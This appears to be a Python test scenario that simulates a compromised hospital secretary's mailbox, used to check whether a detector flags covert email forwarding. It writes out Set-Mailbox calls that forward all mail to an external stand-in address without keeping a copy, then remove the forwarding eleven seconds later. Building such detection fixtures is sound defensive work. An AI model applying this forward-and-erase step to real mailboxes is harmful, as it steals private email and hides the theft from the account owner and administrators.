"""Mailbox forwarding without a copy, set and removed eleven seconds later: both stay in the story."""
from hospital import LAGOS
from microsoft import bag
from scene import Scene

OUT = "copie@boite-rapide.example"


def make(name):
    scene = Scene(name)
    scene.live()
    victim = scene.person("secretaire.chirurgie1")
    session = scene.intrusion(victim, scene.moment(5, 10))
    path = scene.ms.mailbox_path(victim)
    scene.ms.admin(scene.moment(5, 14, 30), victim, LAGOS, "Set-Mailbox", victim.mailbox,
                   bag(Identity=path, ForwardingSmtpAddress=f"smtp:{OUT}", DeliverToMailboxAndForward=False), session)
    scene.ms.admin(scene.moment(5, 14, 41), victim, LAGOS, "Set-Mailbox", victim.mailbox,
                   bag(Identity=path, ForwardingSmtpAddress="", DeliverToMailboxAndForward=False), session)
    scene.compromised(victim)
    scene.others_are_clear(victim)
    scene.finding("T1114.003", victim, OUT)
    scene.expect(events=[{"account": victim.upn, "operation": "Set-Mailbox", "count": 2}])
    return scene
